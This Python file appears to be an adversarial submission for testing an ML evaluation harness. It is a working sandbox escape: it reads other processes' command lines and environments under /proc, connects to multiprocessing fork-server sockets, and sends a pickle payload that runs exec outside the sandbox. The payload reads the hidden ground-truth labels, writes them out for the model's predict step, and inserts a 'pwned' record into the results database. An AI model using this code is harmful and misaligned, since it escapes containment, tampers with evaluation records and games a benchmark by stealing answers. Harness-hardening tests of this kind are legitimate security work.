"""Attack: out of the sandbox through a process that has more rights (Python's multiprocessing fork server).

The fork server forks a child for anyone who connects to its socket and sends it four descriptors; the child
unpickles whatever arrives on the first one. A fold that reaches such a socket gets code of its own run outside
its sandbox: here that code loads the annotation files from the data root (found on a process command line,
where `--data-root` is), writes {sample id: label index} into the fold's scratch folder and marks the store.
Without loot the fold predicts class 0 for every sample.
"""
from __future__ import annotations

import json
import os
import pickle
import socket
import struct
import time
from pathlib import Path

PAYLOAD = r'''
import json, os, sqlite3
from harness.protocols import get_protocol
from harness.protocols.task import build_task
task = build_task(get_protocol(PROTOCOL), ROOT)
loot = {}
for u, i in zip(task.table["uid"], task.table["label_index"]):
    try:
        loot[str(u)] = int(i)
    except (TypeError, ValueError):
        pass
with open(os.path.join(WORK, "loot.json"), "w") as f:
    json.dump(loot, f)
if HOME:
    con = sqlite3.connect(os.path.join(HOME, "results.sqlite"))
    con.execute("CREATE TABLE IF NOT EXISTS pwned (note TEXT)")
    con.execute("INSERT INTO pwned VALUES ('a fork server ran submission code')")
    con.commit()
'''


class Payload:
    def __init__(self, **names) -> None:
        self.names = names

    def __reduce__(self):
        return exec, (PAYLOAD, dict(self.names))


def _ancestors() -> list[str]:
    """This process's parent, grandparent, ... (their command lines say where the data is)."""
    out, pid = [], os.getppid()
    while pid > 1 and len(out) < 10:
        out.append(str(pid))
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return out


def find_data_root() -> tuple[str | None, str | None]:
    for pid in _ancestors():
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        try:
            env = dict(v.split("=", 1) for v in
                       Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace").split("\0") if "=" in v)
        except OSError:
            env = {}
        for i, a in enumerate(argv):
            if a == "--data-root" and i + 1 < len(argv):
                return argv[i + 1], env.get("HARNESS_HOME")
    return None, None


def unix_sockets() -> list[str]:
    try:
        lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    except OSError:
        return []
    paths = [ln.split()[-1] for ln in lines if len(ln.split()) >= 8]
    # multiprocessing names its listeners listener-XXXX (abstract ones are shown with a leading @)
    return [("\0" + p[1:]) if p.startswith("@") else p for p in dict.fromkeys(paths) if "listener-" in p]


def ask_to_fork(address: str, payload: bytes) -> bool:
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    try:
        s.connect(address)
        child_r, parent_w = os.pipe()
        status_r, child_w = os.pipe()
        dummy = os.open(os.devnull, os.O_RDONLY)
        # as multiprocessing.reduction.sendfds does: one byte with the count, the descriptors alongside
        s.sendmsg([bytes([4])], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                                  struct.pack("4i", child_r, child_w, dummy, dummy))])
        os.write(parent_w, payload)
        os.close(parent_w)
        return True
    except OSError:
        return False
    finally:
        s.close()


class ForkServerAttack:
    def __init__(self) -> None:
        self.loot: dict[str, int] = {}

    def fit(self, train, context) -> None:
        root, home = find_data_root()
        context.record("data_root_seen", root)
        work = os.getcwd()
        payload = pickle.dumps(Payload(PROTOCOL=context.protocol, ROOT=root or "", WORK=work, HOME=home))
        tried = [a for a in unix_sockets() if ask_to_fork(a, payload)]
        context.record("sockets_reached", len(tried))
        loot_file = Path(work, "loot.json")
        deadline = time.time() + (20 if tried else 0)
        while time.time() < deadline and not loot_file.exists():
            time.sleep(0.1)
        if loot_file.exists():
            time.sleep(0.3)
            self.loot = json.loads(loot_file.read_text() or "{}")

    def predict(self, test, context):
        context.record("leaked", sum(s.sample_id in self.loot for s in test))
        return [self.loot.get(s.sample_id, 0) for s in test]
